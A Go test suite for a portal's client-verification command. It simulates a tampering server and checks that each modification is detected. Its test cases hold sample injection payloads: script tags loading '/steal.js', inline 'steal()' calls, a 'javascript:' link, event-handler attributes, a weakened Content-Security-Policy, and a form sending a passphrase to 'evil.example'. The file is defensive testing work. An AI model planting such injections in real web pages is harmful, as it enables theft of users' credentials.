package main

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"valise/crypto"
	"valise/portal/ledger"
	"valise/portal/portaltest/live"
	"valise/portal/registry"
	"valise/portal/served"
	"valise/portal/web"
)

// lyingServer is a portal on a line without TLS; whoever holds its web server can change answers before they go out.
type lyingServer struct {
	*live.Server
	t    *testing.T
	url  string
	seen string

	mu     sync.Mutex
	lie    func(r *http.Request, a *httptest.ResponseRecorder) // nil: none
	agents map[string]bool                                     // what visitors said that they were
}

func openLyingServer(t *testing.T) *lyingServer {
	t.Helper()
	l := &lyingServer{Server: live.Portal(t, live.Options{}), t: t, seen: filepath.Join(t.TempDir(), "seen"), agents: make(map[string]bool)}
	site := *l.Portal
	line := httptest.NewUnstartedServer(nil)
	l.url = "http://" + line.Listener.Addr().String()
	site.Origin, site.InsecureHTTP = l.url, true
	handler, err := site.Handler()
	if err != nil {
		t.Fatal(err)
	}
	line.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a := httptest.NewRecorder()
		handler.ServeHTTP(a, r)
		l.mu.Lock()
		defer l.mu.Unlock()
		l.agents[r.UserAgent()] = true
		if l.lie != nil {
			l.lie(r, a)
		}
		for name, values := range a.Header() {
			w.Header()[name] = values
		}
		w.Header().Del("Content-Length")
		w.WriteHeader(a.Code)
		w.Write(a.Body.Bytes())
	})
	line.Start()
	t.Cleanup(line.Close)
	return l
}

// lying has the portal lie from now on.
func (l *lyingServer) lying(lie func(r *http.Request, a *httptest.ResponseRecorder)) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.lie = lie
}

// verify runs the command as a reader would.
func (l *lyingServer) verify(more ...string) (status int, said string) {
	l.t.Helper()
	var out, problems bytes.Buffer
	args := append([]string{"verify-client", l.url, "--root-fingerprint", string(l.Pin.Fingerprint), "--state", l.seen}, more...)
	status = run(l.t.Context(), args, strings.NewReader(""), &out, &problems)
	return status, out.String() + problems.String()
}

// signed is a list of the client, signed by two people.
func (l *lyingServer) signed(m crypto.ClientManifest, at time.Time, signers ...*crypto.Key) []byte {
	l.t.Helper()
	signed, err := crypto.SignClientManifest(l.Pin, signers[0], m, at)
	for _, k := range signers[1:] {
		if err == nil {
			signed, err = crypto.CosignClientManifest(l.Pin, k, signed, m, at)
		}
	}
	if err != nil {
		l.t.Fatal(err)
	}
	return signed
}

// enter puts a list into the ledger at a time of the past.
func (l *lyingServer) enter(signed []byte, at time.Time) {
	l.t.Helper()
	v, err := l.Portal.Root.VerifyClientManifest(signed, l.Staff(), time.Now())
	if err != nil {
		l.t.Fatal(err)
	}
	err = l.Store.AddClientManifest(l.t.Context(), registry.ClientManifest{
		SHA256: ledger.Digest(v.SHA256()).String(), Client: v.Manifest().ClientSHA256(), Signed: v.Bytes(), Made: v.Manifest().Time, Entered: at,
	})
	if err != nil {
		l.t.Fatal(err)
	}
}

func theClient(t *testing.T) crypto.ClientManifest {
	t.Helper()
	m, built, err := web.Client()
	if err != nil || !built {
		t.Fatalf("the browser's half is not built (%v): make build", err)
	}
	return m
}

func swapped(from, to string) func(*httptest.ResponseRecorder) {
	return func(a *httptest.ResponseRecorder) {
		body := strings.Replace(a.Body.String(), from, to, 1)
		a.Body.Reset()
		a.Body.WriteString(body)
	}
}

func TestWhatAPortalGivesBrowsers(t *testing.T) {
	l := openLyingServer(t)
	own := theClient(t)
	l.SignLedger()
	if status, said := l.verify(); status != exitFailed || !strings.Contains(said, "has not signed what its portal gives") {
		t.Fatalf("%d: %s", status, said)
	}
	if status, said := l.verify("--by-program"); status != exitDone || !strings.Contains(said, "It is what this program has") {
		t.Fatalf("%d: %s", status, said)
	}
	signed := l.signed(own, time.Now().Add(-time.Minute), l.Author, l.Registrar)
	l.enter(signed, time.Now().Add(-30*time.Minute))
	if status, said := l.verify(); status != exitFailed || !strings.Contains(said, "no checkpoint of the ledger covers the list") {
		t.Fatalf("%d: %s", status, said)
	}
	l.SignLedger()
	status, said := l.verify()
	if status != exitDone || !strings.Contains(said, "signed by "+live.AuthorName+" and "+live.RegistrarName) || !strings.Contains(said, "this program has the very same") || !strings.Contains(said, "no witness") {
		t.Fatalf("%d: %s", status, said)
	}
	for agent := range l.agents {
		if !strings.HasPrefix(agent, "Mozilla/5.0 ") {
			t.Errorf("the portal was told that it is compared: %q", agent)
		}
	}

	// Many lies at once: each is named.
	type answer = *httptest.ResponseRecorder
	lies := []struct {
		path string // or its end
		lie  func(a answer)
		says string
	}{
		{"/login.js", func(a answer) { a.Header().Del("Content-Encoding"); a.Body.WriteString("\nsteal()") }, "is not what was signed"},
		{"/notice.js", func(a answer) { a.Header().Set("Content-Encoding", "gzip"); a.Body = gzipped(t, "steal()") }, "is not what was signed"},
		{"/claim.js", func(a answer) { a.Header().Set("Content-Encoding", "br"); a.Body = bytes.NewBufferString("\xff") }, "can't be decompressed"},
		{"/valise.wasm", func(a answer) { a.Header().Del("Content-Encoding"); a.Body = bytes.NewBufferString("\x00asm") }, "is not what was signed"},
		{"/reader.html", func(a answer) { a.Header().Del("Content-Encoding"); a.Body.WriteString("<p>") }, "is not what was signed"},
		{"/mailbox.js", func(a answer) { a.Code = 404 }, "answers with status 404"},
		{"/thread.js", func(a answer) { a.Code = http.StatusNotModified }, "has nothing of it"},
		{"/worker.js", func(a answer) {
			a.Header().Set("Content-Security-Policy", strings.Replace(own.WorkerPolicy, "connect-src 'self'", "connect-src *", 1))
		}, "is not the one that was signed"},
		{"/helper.js", func(a answer) { a.Header().Set("Content-Type", "text/html") }, `should be "text/javascript"`},
		{"/login", func(a answer) { a.Header().Del("Content-Security-Policy"); a.Header().Del("X-Content-Type-Options") }, "is not the one that was signed"},
		{"/claim", swapped("</head>", `<script src="/steal.js"></script></head>`), `load "/steal.js"`},
		{"/staff/login", swapped("</body>", `<script>steal()</script>`), "a script stands in the page"},
		{"/en/certificates", swapped("</main>", `<svg><title><script href="/steal.js"></script></title></svg>`), `load "/steal.js"`},
		{"/fr/certificates", swapped("</main>", `<a href="java&#10;script:steal()">x</a>`), "a link or form in it is a script"},
		{"/fr/verify", swapped("<main", `<main onclick="steal()"`), "script in an attribute"},
		{"/en/verify", swapped(`data-wasm="`, `data-wasm="/steal.wasm" data-was="`), `load "/steal.wasm"`},
		{"/en/statements", swapped("</main>", `<iframe src="/x"></iframe>`), "<iframe>"},
		{"/fr/statements", swapped("</main>", `<form action="https://evil.example/"><input name="passphrase"></form>`), "https://evil.example/"},
		{"/en", func(a answer) { a.Header().Set("Link", "</steal.css>; rel=stylesheet") }, "the header Link"},
		{"/fr", func(a answer) { a.Header().Set("Content-Type", "text/javascript") }, "was not signed"},
	}
	l.lying(func(r *http.Request, a *httptest.ResponseRecorder) {
		for _, c := range lies {
			if r.URL.Path == c.path || strings.HasPrefix(r.URL.Path, "/assets/") && strings.HasSuffix(r.URL.Path, c.path) {
				c.lie(a)
			}
		}
	})
	status, said = l.verify()
	if status != exitAlarm || !strings.Contains(said, "ALARM: ") {
		t.Fatalf("%d: %s", status, said)
	}
	for _, c := range lies {
		if !strings.Contains(said, c.path+": ") || !strings.Contains(said, c.says) {
			t.Errorf("%s, %s: it says\n%s", c.path, c.says, said)
		}
	}
	for end, c := range map[string]struct {
		lie  func(a answer)
		says string
	}{
		"/current.asc":        {func(a answer) { a.Code = 404 }, "shows none for what it serves"},
		"/current.tlog-proof": {l.proofOfAStatement(), "the proof of something else"},
	} {
		l.lying(func(r *http.Request, a *httptest.ResponseRecorder) {
			if strings.HasSuffix(r.URL.Path, end) {
				c.lie(a)
			}
		})
		if status, said := l.verify(); status != exitAlarm || !strings.Contains(said, c.says) {
			t.Errorf("%s: %d: %s", end, status, said)
		}
	}

	// A list that fewer signed, or others.
	stranger, err := crypto.GenerateKey(crypto.ProfileCompat, "Mallory", time.Now().Add(-time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	for says, list := range map[string][]byte{"takes two people": l.signed(own, time.Now(), l.Author), "not among those of the staff": l.signed(own, time.Now(), l.Author, stranger)} {
		l.lying(func(r *http.Request, a *httptest.ResponseRecorder) {
			if strings.HasSuffix(r.URL.Path, "/current.asc") {
				a.Body = bytes.NewBuffer(list)
			}
		})
		if status, said := l.verify(); status != exitFailed || !strings.Contains(said, says) {
			t.Errorf("%q: %d: %s", says, status, said)
		}
	}
	l.lying(nil)

	// Another client is entered: for a day the portal may go on with the old one.
	next := own
	next.PagePolicy += "; upgrade-insecure-requests"
	l.enter(l.signed(next, time.Now(), l.Author, l.Approver), time.Now().Add(-10*time.Minute))
	l.SignLedger()
	if status, said := l.verify(); status != exitDone || !strings.Contains(said, "about to be deployed") {
		t.Errorf("%d: %s", status, said)
	}
	status, said = l.verify("--grace", "5m", "--json")
	var failure errorJSON
	if err := json.Unmarshal([]byte(said), &failure); err != nil || status != exitAlarm || failure.Error.Code != "client-differs" || len(failure.Error.Differences) != 1 || !strings.Contains(failure.Error.Message, "it holds an old one") {
		t.Errorf("%d, %v: %s", status, err, said)
	}
}

// proofOfAStatement answers with a proof that holds, of something else.
func (l *lyingServer) proofOfAStatement() func(*httptest.ResponseRecorder) {
	l.t.Helper()
	n := crypto.NewNumber(crypto.KindStatement)
	l.PublishStatement(&crypto.StatementDraft{Statement: n, Revision: 1, Topic: "security", Languages: []crypto.StatementLanguage{{Language: "en", Title: "A", Body: "B.\n"}, {Language: "fr", Title: "A", Body: "B.\n"}}})
	l.SignLedger()
	proof, err := l.Portal.Ledger.StatementProof(l.t.Context(), n, 1)
	if err != nil {
		l.t.Fatal(err)
	}
	return func(a *httptest.ResponseRecorder) { a.Body = bytes.NewBuffer(proof) }
}

func gzipped(t *testing.T, text string) *bytes.Buffer {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write([]byte(text))
	if err := w.Close(); err != nil {
		t.Error(err)
	}
	return &b
}

// recording is what a browser writes down of some answers.
type recording struct {
	Log struct {
		Entries []any `json:"entries"`
	} `json:"log"`
}

func (r *recording) add(address string, a served.Answer) {
	content := map[string]any{"size": len(a.Body), "text": string(a.Body)}
	if strings.HasSuffix(address, ".wasm") {
		content["text"], content["encoding"] = base64.StdEncoding.EncodeToString(a.Body), "base64"
	}
	if a.Body == nil {
		content = map[string]any{"size": 7}
	}
	headers := []any{}
	for name, values := range a.Header {
		for _, v := range values {
			headers = append(headers, map[string]string{"name": strings.ToLower(name), "value": v})
		}
	}
	r.Log.Entries = append(r.Log.Entries, map[string]any{
		"request":  map[string]string{"method": "GET", "url": address},
		"response": map[string]any{"status": a.Status, "headers": headers, "content": content},
	})
}

func TestWhatABrowserRecorded(t *testing.T) {
	l := openLyingServer(t)
	own := theClient(t)
	if _, err := l.Portal.Registry.AddClientManifest(t.Context(), l.signed(own, time.Now(), l.Author, l.Registrar)); err != nil {
		t.Fatal(err)
	}
	l.SignLedger()
	handler, err := l.Portal.Handler()
	if err != nil {
		t.Fatal(err)
	}
	fetch := func(path string) served.Answer {
		w := httptest.NewRecorder()
		handler.ServeHTTP(w, httptest.NewRequest("GET", path, nil))
		return served.Answer{Status: w.Code, Header: w.Header(), Body: w.Body.Bytes()}
	}
	file := filepath.Join(t.TempDir(), "portal.har")
	judge := func(change func(*recording)) (int, string) {
		t.Helper()
		var r recording
		r.add(l.url+"/login?next=%2Fmailbox", fetch("/login"))
		for _, f := range own.Files {
			if strings.HasSuffix(f.Path, "/login.js") || strings.HasSuffix(f.Path, "/worker.js") || strings.HasSuffix(f.Path, "/valise.wasm") && change == nil {
				r.add(l.url+f.Path, fetch(f.Path))
			}
		}
		r.add(l.url+"/api/v1/institution", fetch("/api/v1/institution"))
		if change != nil {
			change(&r)
		}
		data, err := json.Marshal(r)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, data, 0o600); err != nil {
			t.Fatal(err)
		}
		return l.verify("--recording", file)
	}
	if status, said := judge(nil); status != exitDone || !strings.Contains(said, "3 files and 1 page") {
		t.Fatalf("%d: %s", status, said)
	}
	evil := fetch("/login")
	evil.Header.Set("Content-Type", "text/javascript")
	for name, c := range map[string]struct {
		change func(*recording)
		status int
		says   string
	}{
		"a script that nobody signed": {func(r *recording) { r.add(l.url+"/assets/1/steal.js", evil) }, exitAlarm, "/assets/1/steal.js: it can be run"},
		"another script": {func(r *recording) {
			a := fetch("/login")
			a.Body = []byte("steal()")
			r.add(l.url+own.Files[0].Path, a)
		}, exitAlarm, "is not what was signed"},
		"another server":            {func(r *recording) { r.add("https://evil.example/x", evil) }, exitAlarm, "another server"},
		"an answer without content": {func(r *recording) { r.add(l.url+"/claim", served.Answer{Status: 200}) }, exitFailed, "did not record"},
		"a script out of the cache": {func(r *recording) { r.add(l.url+own.Files[0].Path, served.Answer{Status: 304}) }, exitFailed, "switch its cache off"},
		"a page that a form led to": {func(r *recording) {
			a := fetch("/login")
			a.Body = []byte("<!doctype html><script>steal()</script>")
			r.add(l.url+"/continue", a)
			r.Log.Entries[len(r.Log.Entries)-1].(map[string]any)["request"].(map[string]string)["method"] = "POST"
		}, exitAlarm, "/continue: a script stands in the page"},
		"nothing of the portal": {func(r *recording) { r.Log.Entries = nil }, exitFailed, "no page and no script"},
	} {
		if status, said := judge(c.change); status != c.status || !strings.Contains(said, c.says) {
			t.Errorf("%s: %d: %s", name, status, said)
		}
	}
	if err := os.WriteFile(file, []byte("{}"), 0o600); err != nil {
		t.Fatal(err)
	}
	if status, said := l.verify("--recording", file); status != exitFailed || !strings.Contains(said, ".har") {
		t.Errorf("%d: %s", status, said)
	}
}

// TestTwoPeopleSignWhatTheyBuilt goes the way of a release on the command line.
func TestTwoPeopleSignWhatTheyBuilt(t *testing.T) {
	l := openLyingServer(t)
	folder := t.TempDir()
	at := func(name string) string { return filepath.Join(folder, name) }
	do := func(status int, says string, args ...string) string {
		t.Helper()
		var out, problems bytes.Buffer
		if got := run(t.Context(), args, strings.NewReader(""), &out, &problems); got != status || !strings.Contains(out.String()+problems.String(), says) {
			t.Fatalf("%v: %d: %s%s", args, got, &out, &problems)
		}
		return out.String()
	}
	own := theClient(t)
	do(exitDone, own.ClientSHA256(), "client-manifest", "show")
	for name, key := range map[string]*crypto.Key{"author": l.Author, "approver": l.Approver} {
		if err := os.WriteFile(at(name+".secret"), []byte("vivid otter canoe lantern plume brisk\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		if err := writeKeyPair(at(name+".key"), at(name+".asc"), &crypto.Bundle{Holder: name, Pin: l.Pin, Key: key}, "vivid otter canoe lantern plume brisk"); err != nil {
			t.Fatal(err)
		}
	}
	do(exitDone, "Next: somebody else", "client-manifest", "sign", "--key", at("author.key"), "--secret-file", at("author.secret"), "--out", at("one.asc"))
	do(exitFailed, "Only "+live.AuthorName+" signed", "client-manifest", "add", at("one.asc"), "--server", l.url)
	do(exitDone, "Next: valise client-manifest add", "client-manifest", "sign", "--key", at("approver.key"), "--secret-file", at("approver.secret"), "--with", at("one.asc"), "--out", at("two.asc"))
	do(exitDone, "signed by "+live.AuthorName+" and "+live.ApproverName, "client-manifest", "add", at("two.asc"), "--server", l.url)

	other := own
	other.PagePolicy += "; upgrade-insecure-requests"
	if err := os.WriteFile(at("other.asc"), l.signed(other, time.Now(), l.Author), 0o600); err != nil {
		t.Fatal(err)
	}
	do(exitFailed, "sign nothing", "client-manifest", "sign", "--key", at("approver.key"), "--secret-file", at("approver.secret"), "--with", at("other.asc"), "--out", at("three.asc"))
}
